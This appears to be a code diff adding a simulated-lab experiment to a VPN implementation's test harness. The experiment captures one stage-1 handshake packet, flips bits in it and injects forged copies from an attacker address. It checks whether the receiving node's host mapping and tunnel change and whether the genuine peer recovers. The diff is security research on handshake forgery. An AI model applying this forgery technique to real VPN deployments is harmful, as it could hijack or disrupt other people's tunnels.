@@ -3,6 +3,7 @@
 package main
 
 import (
+	"strings"
 	"time"
 	"fmt"
 
@@ -83,3 +84,67 @@ func init() { hx.Register("outs_victim", func(c *hx.Ctx) {
 	lab := outsNewLab(c)
 	fmt.Println(lab.victim())
 }) }
+
+func init() { hx.Register("outs_hsforge", outsHsForge) }
+
+// experiment: what an attacker without any key can do with ONE captured stage-1 handshake packet
+func outsHsForge(c *hx.Ctx) {
+	w := outsStdWorld()
+	x, n := w.n(outsX), w.n(outsN)
+	var stage1 []byte
+	w.tap = func(p *outsWire) [][]byte {
+		if p.parsed && p.from == outsN && p.to == outsX && p.h.Type == 0 && stage1 == nil {
+			stage1 = append([]byte(nil), p.data...)
+		}
+		return [][]byte{p.data}
+	}
+	n.TunSend(outsUDP4(n.vpn, x.vpn, 1, 2, []byte("hi")))
+	w.settle(6)
+	w.tap = nil
+	x.TunSend(outsUDP4(x.vpn, n.vpn, 2, 1, []byte("hi back")))
+	w.settle(2)
+	show := func(tag string) {
+		d := x.Digest()
+		t, _ := x.Tunnel(n.vpn)
+		fmt.Printf("%-34s hosts[N]=%s primary.local=%d primary.remote=%v\n", tag, hostsOf(d.Hosts, n.vpn.String()), t.Local, t.RemoteAddr)
+	}
+	show("genuine tunnel up")
+	fmt.Printf("stage-1 is %d bytes; tun at N so far: %d packets\n", len(stage1), len(w.takeTun(outsN)))
+	atk := mustAP("198.51.100.99:4242")
+	accepted := 0
+	for bit := 128 + 64*8; bit < len(stage1)*8 && accepted < 6; bit++ {
+		q := outsFlip(stage1, bit)
+		before := x.Digest()
+		x.Inject(atk, q)
+		x.DrainUDP()
+		after := x.Digest()
+		if before.Hosts != after.Hosts {
+			accepted++
+			show(fmt.Sprintf("forged stage-1 (bit %d flipped)", bit))
+		}
+	}
+	// does X still reach N?
+	x.TunSend(outsUDP4(x.vpn, n.vpn, 2, 1, []byte("are you there")))
+	for _, p := range x.DrainUDP() {
+		fmt.Printf("X sends its data for N to %v (%d bytes)\n", p.To, len(p.Data))
+	}
+	// can N come back with a new genuine handshake?
+	if t, ok := n.Tunnel(x.vpn); ok {
+		n.CloseLocal(t.Local)
+	}
+	n.LearnAddr(x.vpn, x.udp)
+	n.TunSend(outsUDP4(n.vpn, x.vpn, 1, 2, []byte("hi again")))
+	w.settle(6)
+	show("after N's new genuine handshake")
+	_, ok := n.Tunnel(x.vpn)
+	fmt.Printf("N has a tunnel to X again: %v; pending at N: %v\n", ok, n.Pending())
+}
+
+func hostsOf(hosts, addr string) string {
+	for _, f := range strings.Fields(hosts) {
+		if strings.HasPrefix(f, addr+"=") {
+			return f
+		}
+	}
+	return "-"
+}
